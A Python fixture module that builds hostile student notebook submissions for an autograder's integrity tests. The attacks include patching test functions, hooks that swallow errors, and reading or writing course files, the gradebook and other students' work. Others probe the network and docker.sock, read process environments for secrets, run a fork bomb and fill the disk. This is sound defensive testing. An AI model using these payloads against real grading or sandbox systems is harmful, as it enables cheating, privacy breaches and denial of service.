"""Hostile submissions for the grading-integrity tests (issue 5), built from a released notebook.

Each :class:`Attack` is one student's submission: the sources it puts in the
answer cells, what it attacks in plain words, the graded cells it solves
honestly (usually none), the statuses it may end with, and the words of the
``attack`` flag that must describe it (empty when a scan cannot see it; the
``no_flag_because`` field then says why).

Conventions that let the tests tell a successful attack from a failed one
without trusting the attacker:

* Every hostile notebook starts with an extra, ungraded cell that names the
  kernel process ``atk<tag>`` (``prctl(PR_SET_NAME)``, inherited by anything it
  forks) and defines ``_breach(what)``. An attack calls ``_breach`` whenever it
  got something it must not get (read a course file, wrote one, reached the
  network, found a hidden test in memory). The word it prints is assembled at
  run time, so it appears in the output only when an attack succeeded, never
  in a traceback that quotes the source. The same holds for every needle an
  attack searches for (hidden test text, the planted secret's name).
* Wrong answers are chosen to pass the *visible* tests and fail the hidden
  ones, so any point they get was forged.
* Programs an attack leaves behind carry the run's ``tag`` in their command
  line, so a survivor can be found in ``/proc`` after the batch.

Nothing here is a test; tests/test_attacks.py grades all of it in one batch.
"""
from __future__ import annotations

import json
import secrets
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from _notebooks import with_prelude
from conftest import with_answers

ASSIGNMENT = "hw"
NOTEBOOK = "hw.ipynb"
SOURCE = Path(__file__).parent / "fixtures" / "attack_course" / NOTEBOOK
POINTS = {"test_answer": 2.0, "test_count": 3.0, "test_tensor": 2.0}
MAX_SCORE = sum(POINTS.values())

# Text that exists only in the source notebook's hidden tests and solutions. None of it
# may ever show up in anything the grading produced for a student.
HIDDEN_MARKERS = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "BEGIN SOLUTION", "count_parameters(_frozen)",
                  "замороженные параметры", "_expected.numpy()", "bias=False")
SECRET_ENV = "AUTOGRADER_ATTACK_SECRET"    # planted in the grader's environment by the test
BREACH = "BREACH"                          # what an attack prints when it succeeded

HONEST_FULL = {
    "q_answer": "answer = 50",
    "q_count": "def count_parameters(model):\n"
               "    return int(sum(p.numel() for p in model.parameters() if p.requires_grad))",
    # a self-check with NumPy's testing helpers, as students are taught to write
    "q_tensor": "t = torch.arange(12, dtype=torch.float32).reshape(3, 4)\nt[2, :] = 1\n"
                "np.testing.assert_allclose(t.numpy()[2], np.ones(4))",
}
# right answer, a count_parameters that also counts frozen parameters (passes the visible
# test, fails the hidden one), right tensor: 2 + 0 + 2 of 7
HONEST_PARTIAL = {
    "q_answer": "answer = 50",
    "q_count": "def count_parameters(model):\n    return int(sum(p.numel() for p in model.parameters()))",
    "q_tensor": "t = torch.arange(12, dtype=torch.float32).reshape(3, 4)\nt[2, :] = 1",
}
HONEST_PARTIAL_SCORE = POINTS["test_answer"] + POINTS["test_tensor"]

# wrong answers that pass every visible test: the baseline each attack tries to turn into points
WRONG = {
    "q_answer": "answer = 49",
    "q_count": "def count_parameters(model):\n    return 16",
    "q_tensor": "t = torch.zeros(3, 4)",
}
ALL_WRONG = "\n".join(WRONG.values())


@dataclass(frozen=True)
class Target:
    """What an attacker is assumed to know: everything but the secrets themselves."""
    course: Path          # the course directory (absolute): we hand attackers the real path
    victim: str           # another student, whose files an attack tries to read
    tag: str              # digits naming this run's processes and files
    secret: str           # value of SECRET_ENV in the grader's environment

    @classmethod
    def new(cls, course: Path, victim: str) -> "Target":
        return cls(course=course, victim=victim, tag=str(secrets.randbelow(9 * 10**8) + 10**8),
                   secret="s3cr3t-" + secrets.token_hex(12))


@dataclass(frozen=True)
class Attack:
    student: str
    attacks: str                                   # what it attacks, in plain words
    answers: dict[str, str]                        # answer cell grade_id -> source
    solves: frozenset[str] = frozenset()           # graded cells it solves honestly
    statuses: frozenset[str] = frozenset({"graded"})
    flag_words: tuple[str, ...] = ()               # one of these must be in the attack flag
    no_flag_because: str = ""                      # why no attack flag is expected
    tampered: bool = False                         # the `tampered` flag is expected
    edit: Callable[[dict], dict] | None = None     # notebook-level changes after the answers
    links: dict[str, str] = field(default_factory=dict)  # extra files as symbolic links: name -> target

    def notebook(self, released: dict, target: Target) -> dict:
        nb = with_prelude(with_answers(released, self.answers), prelude(target))
        return self.edit(nb) if self.edit else nb


def prelude(target: Target) -> str:
    """The ungraded first cell of every hostile notebook: name the process, define _breach."""
    return textwrap.dedent(f"""\
        import ctypes as _ctypes
        _ctypes.CDLL(None).prctl(15, b"atk{target.tag}", 0, 0, 0)   # PR_SET_NAME: find survivors
        def _breach(what):
            print("BRE" + "ACH", what, flush=True)
        """)


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


def build_corpus(target: Target) -> list[Attack]:
    """Every hostile submission, for one course. Student ids sort before the honest ones."""
    C = str(target.course)
    tag = target.tag
    attacks = [
        Attack(
            "atk01_input_transformers",
            "IPython input/AST transformers turn every later cell, tests included, into `pass`",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import ast
                class _NoAsserts(ast.NodeTransformer):
                    def visit_Assert(self, node):
                        return ast.Pass()
                get_ipython().ast_transformers.append(_NoAsserts())
                get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
                get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
            """)},
            flag_words=("rewrites cells",),
        ),
        Attack(
            "atk02_patch_functions",
            "patches torch/numpy comparison functions and builtins so that every check passes",
            {"q_answer": "answer = 49\n" + _code("""
                import builtins, numpy
                torch.allclose = lambda *a, **k: True
                torch.equal = lambda *a, **k: True
                numpy.allclose = lambda *a, **k: True
                np.testing.assert_allclose = lambda *a, **k: None
                torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
             """),
             "q_count": WRONG["q_count"] + "\n" + _code("""
                isinstance = lambda *a, **k: True   # shadows the builtin in the student's namespace
                type = lambda *a, **k: int
                tuple = lambda *a, **k: (3, 4)
             """),
             "q_tensor": WRONG["q_tensor"] + "\n" + _code("""
                builtins.isinstance = lambda *a, **k: True
                builtins.all = lambda *a, **k: True
                builtins.AssertionError = type('AssertionError', (Warning,), {})
             """)},
            statuses=frozenset({"graded", "crashed"}),
            flag_words=("replaces a function tests use",),
        ),
        Attack(
            "atk03_rebind_modules",
            "rebinds the notebook's `torch` and `np` names to objects whose allclose/equal always say True",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import torch as _real_torch, numpy as _real_np
                class _Lenient:
                    def __init__(self, real):
                        self._real = real
                    def __getattr__(self, name):
                        if name in ('allclose', 'equal', 'array_equal', 'isclose'):
                            return lambda *a, **k: True
                        return getattr(self._real, name)
                torch = _Lenient(_real_torch)
                np = _Lenient(_real_np)
            """)},
            no_flag_because="binding a name to an object is ordinary Python; the judge must simply not "
                            "take the test's modules from the student",
        ),
        Attack(
            "atk04_lying_eq",
            "an int subclass and a Tensor subclass whose __eq__ always answers True",
            {"q_answer": _code("""
                class Liar(int):
                    def __eq__(self, other):
                        return True
                    def __ne__(self, other):
                        return False
                    __hash__ = int.__hash__
                answer = Liar(49)
             """),
             "q_count": "def count_parameters(model):\n    return Liar(0)",
             "q_tensor": _code("""
                class LyingTensor(torch.Tensor):
                    def __eq__(self, other):
                        return torch.ones(self.shape, dtype=torch.bool)
                    def allclose(self, *a, **k):
                        return True
                t = torch.zeros(3, 4).as_subclass(LyingTensor)
             """)},
            flag_words=("can lie in comparisons",),
        ),
        Attack(
            "atk05_lying_bool_float",
            "objects whose __bool__, __float__, __int__, __index__ and __eq__ lie",
            {"q_answer": _code("""
                class Yes:
                    shape = (3, 4)
                    def __bool__(self): return True
                    def __float__(self): return 50.0
                    def __int__(self): return 50
                    def __index__(self): return 50
                    def __eq__(self, other): return True
                    def __len__(self): return 1
                    def float(self): return self
                    def numpy(self): return self
                answer = Yes()
                def count_parameters(model):
                    return Yes()
                t = Yes()
             """)},
            flag_words=("can lie in comparisons",),
        ),
        Attack(
            "atk06_read_course_files",
            "reads ../../../source/, the kit, the gradebook and config by relative, absolute and /proc "
            "paths, searches the file system and mounts for the course",
            {"q_answer": ALL_WRONG + "\n" + f"C = {C!r}\n" + _code("""
                import os, time
                paths = ['../../../source/hw/hw.ipynb', '../../source/hw/hw.ipynb', '../source/hw/hw.ipynb',
                         '../../../../source/hw/hw.ipynb', '../../../release/hw/hw.ipynb', 'source/hw/hw.ipynb',
                         C + '/source/hw/hw.ipynb', C + '/release/hw/hw.ipynb', C + '/.autograder/kits/hw.json',
                         C + '/gradebook.db', C + '/nbgrader_config.py', C + '/course.toml',
                         '/proc/1/root' + C + '/source/hw/hw.ipynb', '/proc/self/cwd/../../..' + C + '/gradebook.db']
                for p in paths:
                    try:
                        with open(p, 'rb') as fh:
                            fh.read(1)
                        _breach('read ' + p)
                    except OSError:
                        pass
                for line in open('/proc/self/mountinfo'):
                    if C in line:
                        _breach('the course is mounted: ' + line.strip())
                needles = (b'count_parameters(_fro' + b'zen)', b'BEGIN ' + b'SOLUTION', b'BEGIN ' + b'HIDDEN')
                start = time.monotonic()
                for dirpath, dirnames, filenames in os.walk('/'):
                    if dirpath.startswith(('/proc', '/sys', '/dev', '/usr')) or 'site-packages' in dirpath \\
                            or '/lib/python' in dirpath or time.monotonic() - start > 2.5:
                        dirnames[:] = []
                        continue
                    for name in filenames:
                        if name.endswith(('.ipynb', '.json', '.db', '.toml', '.jsonl')) or name == 'nbgrader_config.py':
                            try:
                                data = open(os.path.join(dirpath, name), 'rb').read(1 << 22)
                            except OSError:
                                continue
                            if name in ('gradebook.db', 'leaderboard.db') or any(n in data for n in needles):
                                _breach('found ' + os.path.join(dirpath, name))
            """)},
            statuses=frozenset({"graded", "timeout"}),   # the file-system walk is long on a busy machine
            flag_words=("looks for course files", "tried to open a course file"),
        ),
        Attack(
            "atk07_write_course_files",
            "writes the gradebook (sqlite), course.toml, nbgrader_config.py, source/, release/, the "
            "records, its own result file in the spool, the kit and another student's notebook",
            {"q_answer": ALL_WRONG + "\n" + f"C = {C!r}\nVICTIM = {target.victim!r}\n" + _code("""
                import os, json, sqlite3
                me = 'atk07_write_course_files'
                spool = C + '/.autograder/spool/hw/'
                fake = json.dumps({'student_id': me, 'assignment': 'hw', 'status': 'graded', 'flags': {},
                                   'cells': [{'grade_id': g, 'max_score': 9, 'score': 9} for g in
                                             ('test_answer', 'test_count', 'test_tensor')]})
                targets = [C + '/gradebook.db', C + '/course.toml', C + '/nbgrader_config.py',
                           C + '/source/hw/hw.ipynb', C + '/release/hw/hw.ipynb', C + '/.autograder/records.jsonl',
                           spool + me + '.json', spool + me + '.json.cells', C + '/.autograder/kits/hw.json',
                           C + '/submitted/' + VICTIM + '/hw/hw.ipynb', '../../../gradebook.db',
                           '../../../course.toml', '../../../.autograder/records.jsonl']
                for p in targets:
                    try:   # no O_CREAT: a file created in the sandbox's own /tmp proves nothing
                        fd = os.open(p, os.O_WRONLY | os.O_APPEND)
                        os.write(fd, (fake + '\\n').encode())
                        os.close(fd)
                        _breach('wrote ' + p)
                    except OSError:
                        pass
                if os.path.isdir(spool):   # only the real spool: the sandbox's private /tmp may hold a look-alike
                    try:
                        with open(spool + me + '.json', 'w') as fh:
                            fh.write(fake)
                        _breach('made a result file')
                    except OSError:
                        pass
                try:
                    db = sqlite3.connect('file:' + C + '/gradebook.db?mode=rw', uri=True)
                    db.execute('update grade set auto_score = 99')
                    db.commit()
                    _breach('updated the gradebook')
                except Exception:
                    pass
            """)},
            flag_words=("looks for course files", "tried to open a course file"),
        ),
        Attack(
            "atk08_error_hooks",
            "replaces showtraceback, sys.excepthook and installs a custom exception handler that swallows "
            "every error, so a failing test looks clean",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import sys
                ip = get_ipython()
                ip.showtraceback = lambda *a, **k: None
                ip._showtraceback = lambda *a, **k: None
                ip.showsyntaxerror = lambda *a, **k: None
                ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
                sys.excepthook = lambda *a: None
            """)},
            flag_words=("replaces error reporting",),
        ),
        Attack(
            "atk09_settrace",
            "a sys.settrace tracer that jumps over every `assert` line of later cells",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import sys, linecache, threading
                def _skip_asserts(frame, event, arg):
                    if event == 'line':
                        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
                        if text.startswith('assert'):
                            try:
                                frame.f_lineno = frame.f_lineno + 1
                            except ValueError:
                                pass
                    return _skip_asserts
                sys.settrace(_skip_asserts)
                threading.settrace(_skip_asserts)
            """)},
            statuses=frozenset({"graded", "timeout"}),   # tracing every line can push a cell past its limit
            flag_words=("installs a tracer",),
        ),
        Attack(
            "atk10_catch_test_exception",
            "wraps IPython's run_code so the exception a later test raises is caught in a previous "
            "cell's code, and clears the error from each cell's result",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                _ip = get_ipython()
                async def _swallow(code_obj, result=None, *, async_=False):
                    try:
                        exec(code_obj, _ip.user_global_ns, _ip.user_ns)
                    except BaseException:
                        pass
                    return False
                _ip.run_code = _swallow
                def _clean(result):
                    result.error_before_exec = None
                    result.error_in_exec = None
                get_ipython().events.register('post_run_cell', _clean)
            """)},
            flag_words=("hooks the notebook runner", "replaces error reporting"),
        ),
        Attack(
            "atk11_fake_outputs",
            "prints and displays text that looks like passing tests and scores, writes a fake graded "
            "notebook and result files into its working directory",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import json, sys
                from IPython.display import display
                print('Success!')
                print('test_answer: 2.0 / 2.0 points\\ntest_count: 3.0 / 3.0\\ntest_tensor: 2.0 / 2.0')
                print(json.dumps({'score': 7.0, 'max_score': 7.0, 'status': 'graded'}))
                sys.stderr.write('[AutograderApp] score: 7.0/7.0\\n')
                display({'text/plain': '7.0'}, raw=True)
                fake_cell = {'cell_type': 'code', 'execution_count': 1, 'source': 'pass',
                             'metadata': {'nbgrader': {'grade': True, 'grade_id': 'test_answer', 'points': 2}},
                             'outputs': [{'output_type': 'execute_result', 'execution_count': 1,
                                          'data': {'text/plain': '2.0'}, 'metadata': {}}]}
                json.dump({'cells': [fake_cell], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5},
                          open('hw.ipynb', 'w'))
                open('results.json', 'w').write(json.dumps({'score': 7.0}))
                open('timestamp.txt', 'w').write('2000-01-01 00:00:00')
             """),
             "q_tensor": WRONG["q_tensor"] + "\n7.0"},
            no_flag_because="printing and writing files in its own directory is what honest notebooks do",
        ),
        Attack(
            "atk12_kill_after_test",
            "answers the first question, then kills its own kernel right after that test (SIGKILL to "
            "itself, which a PID namespace's init ignores, then os._exit)",
            {"q_answer": "answer = 50",
             "q_count": WRONG["q_count"] + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos._exit(0)",
             "q_tensor": WRONG["q_tensor"]},
            solves=frozenset({"test_answer"}),
            statuses=frozenset({"crashed"}),
            flag_words=("kills or crashes its kernel",),
        ),
        Attack(
            "atk13_exit_during_test",
            "a count_parameters that calls os._exit(0) while the judge is calling it",
            {"q_answer": WRONG["q_answer"],
             "q_count": "def count_parameters(model):\n    import os\n    os._exit(0)",
             "q_tensor": WRONG["q_tensor"]},
            statuses=frozenset({"crashed"}),
            flag_words=("kills or crashes its kernel",),
        ),
        Attack(
            "atk14_read_other_students",
            "reads another student's submission by absolute, relative and /proc paths",
            {"q_answer": ALL_WRONG + "\n" + f"C = {C!r}\nVICTIM = {target.victim!r}\n" + _code("""
                import os
                paths = [C + '/submitted/' + VICTIM + '/hw/hw.ipynb', '../../' + VICTIM + '/hw/hw.ipynb',
                         '../' + VICTIM + '/hw/hw.ipynb', '../../../submitted/' + VICTIM + '/hw/hw.ipynb',
                         '/home/' + VICTIM + '/hw.ipynb', C + '/autograded/' + VICTIM + '/hw/hw.ipynb',
                         C + '/feedback/' + VICTIM + '/hw/hw.html']
                pids = [p for p in os.listdir('/proc') if p.isdigit()]
                for pid in pids:
                    paths += ['/proc/' + pid + '/root' + C + '/submitted/' + VICTIM + '/hw/hw.ipynb',
                              '/proc/' + pid + '/cwd/../../submitted/' + VICTIM + '/hw/hw.ipynb']
                for p in paths:
                    try:
                        open(p, 'rb').read(1)
                        _breach('read ' + p)
                    except OSError:
                        pass
                for top in ('/home', '/tmp', '/dev/shm'):
                    for dirpath, dirnames, filenames in os.walk(top):
                        for name in filenames:
                            full = os.path.join(dirpath, name)
                            try:
                                data = open(full, 'rb').read(1 << 20)
                            except OSError:
                                continue
                            if b'p.requires' + b'_grad))' in data:
                                _breach('found a solved notebook at ' + full)
            """)},
            # walking /tmp also walks a virtual environment that lives under /tmp (as in CI), read-only
            # and harmless but large: the walk may run past the cell limit
            statuses=frozenset({"graded", "timeout"}),
            flag_words=("looks for course files", "tried to open a course file"),
        ),
        Attack(
            "atk15_network",
            "opens TCP/UDP/unix sockets to the internet, the host and local services",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import socket, urllib.request
                for host, port in [('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('127.0.0.1', 8786),
                                   ('10.0.2.2', 80), ('pypi.org', 443)]:
                    try:
                        socket.create_connection((host, port), timeout=0.5).close()
                        _breach('connected to %s:%d' % (host, port))
                    except OSError:
                        pass
                try:
                    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    u.sendto(b'x', ('8.8.8.8', 53))
                    _breach('sent a UDP datagram')
                except OSError:
                    pass
                for path in ('/var/run/docker.sock', '/run/dbus/system_bus_socket', '\\0/tmp/.X11-unix/X0'):
                    try:
                        s = socket.socket(socket.AF_UNIX)
                        s.settimeout(0.5)
                        s.connect(path)
                        _breach('connected to unix socket ' + repr(path))
                    except OSError:
                        pass
                try:
                    urllib.request.urlopen('http://example.com', timeout=0.5)
                    _breach('downloaded a web page')
                except Exception:
                    pass
            """)},
            statuses=frozenset({"graded", "timeout"}),   # where a network exists, connects may wait out
            flag_words=("tries the network", "network connection"),
        ),
        Attack(
            "atk16_background_process",
            "starts programs that outlive the kernel: Popen(start_new_session=True), nohup, a double "
            "fork that writes into the course later, a non-daemon thread",
            {"q_answer": ALL_WRONG + "\n" + f"C = {C!r}\nTAG = {tag!r}\n" + _code("""
                import os, subprocess, sys, threading, time
                subprocess.Popen(['sleep', '1000.' + TAG], start_new_session=True)
                subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(1000)', TAG],
                                 start_new_session=True)
                os.system('nohup sleep 1001.' + TAG + ' > /dev/null 2>&1 &')
                if os.fork() == 0:
                    try:
                        os.setsid()
                        if os.fork() == 0:
                            time.sleep(1)
                            for p in (C + '/late-' + TAG + '.txt', '/home/student/late.txt'):
                                try:
                                    open(p, 'w').write('written after the kernel was gone')
                                except OSError:
                                    pass
                            time.sleep(1000)
                    finally:
                        os._exit(0)
                threading.Thread(target=time.sleep, args=(1000,)).start()
            """)},
            flag_words=("starts other programs", "started a program"),
        ),
        Attack(
            "atk17_fill_disk",
            "fills its working directory, /tmp and /dev/shm until the disk is full",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import os
                chunk = bytes(1 << 20)
                total = 0
                for d in ('/home/student', '/tmp', '/dev/shm'):
                    for i in range(1000):
                        try:
                            with open('%s/fill%03d.bin' % (d, i), 'wb') as fh:
                                for _ in range(8):
                                    fh.write(chunk)
                                    total += 1
                        except OSError as exc:
                            print(d, 'stopped:', exc.strerror)
                            break
                print('wrote about', total, 'MB')
            """)},
            flag_words=("filled its private disk",),
        ),
        Attack(
            "atk18_gc_search",
            "searches the interpreter's memory (gc.get_objects, stack frames) for hidden tests, the kit "
            "and the grading job, and tries the paths it finds",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import gc, sys
                needles = ('count_parameters(_fro' + 'zen)', '_expected.num' + 'py()')
                def _strings(obj):
                    if isinstance(obj, str):
                        yield obj
                    elif isinstance(obj, dict):
                        for k, v in list(obj.items()):
                            yield from (x for x in (k, v) if isinstance(x, str))
                    elif isinstance(obj, (list, tuple, set, frozenset)):
                        yield from (x for x in list(obj) if isinstance(x, str))
                import time
                paths = set()
                start = time.monotonic()
                for obj in gc.get_objects():
                    if time.monotonic() - start > 2.5:   # stay inside the cell limit on a busy machine
                        break
                    for s in _strings(obj):
                        for n in needles:
                            if n in s and s != n:   # the needles themselves are in memory, of course
                                at = s.find(n)
                                _breach('hidden test text in memory: %r' % s[max(0, at - 80):at + 80])
                    for attr in ('kit_path', 'result_path', 'submission_dir'):
                        try:
                            value = getattr(obj, attr, None) if not isinstance(obj, type) else None
                        except Exception:
                            value = None
                        if isinstance(value, str):
                            paths.add(value)
                frame = sys._getframe()
                while frame is not None:
                    for value in list(frame.f_locals.values()):
                        for s in _strings(value):
                            if any(n in s and s != n for n in needles):
                                _breach('hidden test text in a frame')
                        for attr in ('kit_path', 'result_path', 'submission_dir'):
                            try:
                                v = getattr(value, attr, None)
                            except Exception:
                                v = None
                            if isinstance(v, str):
                                paths.add(v)
                    frame = frame.f_back
                for p in sorted(paths):
                    try:
                        open(p, 'rb').read(1)
                        _breach('read ' + p)
                    except OSError:
                        pass
                print('job paths learnt from memory (not readable):', len(paths))
            """)},
            statuses=frozenset({"graded", "timeout"}),
            flag_words=("searches the interpreter's memory",),
        ),
        Attack(
            "atk19_fork_bomb",
            "a fork bomb (every child forks again, forever)",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import os, time
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
            """)},
            statuses=frozenset({"timeout", "crashed"}),   # either is a clear, correct end for a fork bomb
            flag_words=("forks its kernel",),
        ),
        Attack(
            "atk20_proc_environ",
            "reads /proc/1/environ, every /proc/*/cmdline and environ, posix.environ and its own stack "
            "(ctypes) for the grader's environment",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                import os, posix, ctypes
                name = ('AUTOGRADER_ATTACK_' + 'SECRET').encode()
                blobs = {}
                for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self']:
                    for what in ('environ', 'cmdline'):
                        try:
                            blobs['/proc/%s/%s' % (pid, what)] = open('/proc/%s/%s' % (pid, what), 'rb').read()
                        except OSError:
                            pass
                blobs['posix.environ'] = repr(posix.environ).encode()
                blobs['os.environ'] = repr(dict(os.environ)).encode()
                try:
                    for line in open('/proc/self/maps'):
                        if '[stack]' in line:
                            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
                            size = min(hi - lo, 1 << 20)
                            blobs['stack'] = ctypes.string_at(hi - size, size)
                except OSError:
                    pass
                for where, blob in blobs.items():
                    at = blob.find(name + b'=')
                    if at >= 0:
                        _breach('the grader environment in %s: %r' % (where, blob[at:at + 80]))
                print('looked at', sorted(blobs))
            """)},
            flag_words=("kills or crashes its kernel", "searches the interpreter's memory", "memory"),
        ),
        Attack(
            "atk21_forged_frame",
            "after a right answer, writes a control frame with 200,000 nested JSON lists on the "
            "kernel's socket to crash the trusted side's decoder",
            {"q_answer": "answer = 50",
             "q_count": WRONG["q_count"] + "\n" + _code("""
                import os, stat, struct
                for fd in range(3, 256):
                    try:
                        if stat.S_ISSOCK(os.fstat(fd).st_mode):
                            raw = b'[' * 200000 + b']' * 200000
                            os.write(fd, struct.pack('>I', len(raw)) + raw)
                    except OSError:
                        pass
             """),
             "q_tensor": WRONG["q_tensor"]},
            solves=frozenset({"test_answer"}),
            statuses=frozenset({"crashed"}),
            flag_words=("grading protocol",),
        ),
        Attack(
            "atk22_stalled_frame",
            "after a right answer, writes half a control frame on the kernel's socket and sleeps, so "
            "the trusted side blocks reading the rest",
            {"q_answer": "answer = 50",
             "q_count": WRONG["q_count"] + "\n" + _code("""
                import os, stat, struct, time
                for fd in range(3, 256):
                    try:
                        if stat.S_ISSOCK(os.fstat(fd).st_mode):
                            os.write(fd, struct.pack('>I', 100) + b'{')
                    except OSError:
                        pass
                time.sleep(1000)
             """),
             "q_tensor": WRONG["q_tensor"]},
            solves=frozenset({"test_answer"}),
            # the trusted side stops waiting for the rest of the frame and ends the kernel
            statuses=frozenset({"crashed"}),
            flag_words=("grading protocol",),
        ),
        Attack(
            "atk23_blind_audit",
            "silences the audit channel (dup2 /dev/null over its pipe), then reaches for the network, "
            "a shell and the course with names assembled at run time",
            {"q_answer": ALL_WRONG + "\n" + f"C = {C!r}\n" + _code("""
                import stat
                _o = __import__('o' + 's')
                _null = _o.open('/dev/null', _o.O_WRONLY)
                for fd in range(3, 256):
                    try:
                        if stat.S_ISFIFO(_o.fstat(fd).st_mode):
                            _o.dup2(_null, fd)
                    except OSError:
                        pass
                _s = __import__('sock' + 'et')
                try:
                    getattr(_s, 'create_' + 'connection')(('1.1.1.1', 53), timeout=0.5)
                    _breach('network')
                except OSError:
                    pass
                getattr(_o, 'sys' + 'tem')('true')
                for p in (C + '/sour' + 'ce/hw/hw.ipynb', C + '/grade' + 'book.db'):
                    try:
                        open(p, 'rb').read(1)
                        _breach('read ' + p)
                    except OSError:
                        pass
            """)},
            no_flag_because="it blinds the audit hook and hides every name from the scan: by design "
                            "nothing is left to see (its score and the course are what matter)",
        ),
        Attack(
            "atk24_tamper_notebook",
            "edits a test cell to `pass` with fake passing outputs, deletes another, duplicates a third, "
            "raises points in the metadata and adds a bogus graded cell worth 50",
            dict(WRONG),
            tampered=True,
            no_flag_because="tampering with cells is reported by the `tampered` flag",
            edit=lambda nb: _tamper(nb),
        ),
        Attack(
            "atk25_symlinked_extra_files",
            "hands in extra files that are symbolic links to the source notebook, the gradebook and "
            "another student's notebook, then reads them in its working directory",
            {"q_answer": ALL_WRONG + "\n" + _code("""
                for name in ('notes.txt', 'peer.txt', 'gb.txt'):
                    try:
                        data = open(name, 'rb').read()
                    except OSError:
                        continue
                    if data:
                        _breach('read %s: %d bytes' % (name, len(data)))
            """)},
            no_flag_because="it only opens files in its own working directory",
            links={"notes.txt": "source/hw/hw.ipynb", "peer.txt": "submitted/{victim}/hw/hw.ipynb",
                   "gb.txt": "gradebook.db"},
        ),
        Attack(
            "atk26_stall_judge",
            "a count_parameters that ignores SIGINT and never returns while the judge calls it, hoping a "
            "stalled test counts as passed",
            {"q_answer": WRONG["q_answer"],
             "q_count": _code("""
                def count_parameters(model):
                    import signal
                    signal.signal(signal.SIGINT, signal.SIG_IGN)
                    while True:
                        pass
             """),
             "q_tensor": WRONG["q_tensor"]},
            statuses=frozenset({"timeout"}),
            no_flag_because="an endless loop looks like a slow honest function",
        ),
    ]
    return attacks


def _tamper(nb: dict) -> dict:
    cells = nb["cells"]

    def gid(cell):
        return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")

    fake_output = [{"output_type": "execute_result", "execution_count": 9,
                    "data": {"text/plain": "2.0"}, "metadata": {}}]
    out = []
    for cell in cells:
        if gid(cell) == "test_count":
            continue                                      # deleted
        if gid(cell) == "test_tensor":
            cell["source"] = "pass"
            cell["outputs"] = fake_output
            cell["execution_count"] = 9
        if gid(cell) == "test_answer":
            cell["metadata"]["nbgrader"]["points"] = 100
            copy = json.loads(json.dumps(cell))
            copy["source"] = "pass"
            out.append(cell)
            out.append(copy)                              # duplicated, the copy edited
            continue
        out.append(cell)
    out.append({"cell_type": "code", "execution_count": 1, "outputs": fake_output, "source": "pass",
                "metadata": {"nbgrader": {"grade": True, "solution": False, "locked": True, "points": 50,
                                          "grade_id": "bonus", "schema_version": 3}}})
    nb["cells"] = out
    return nb
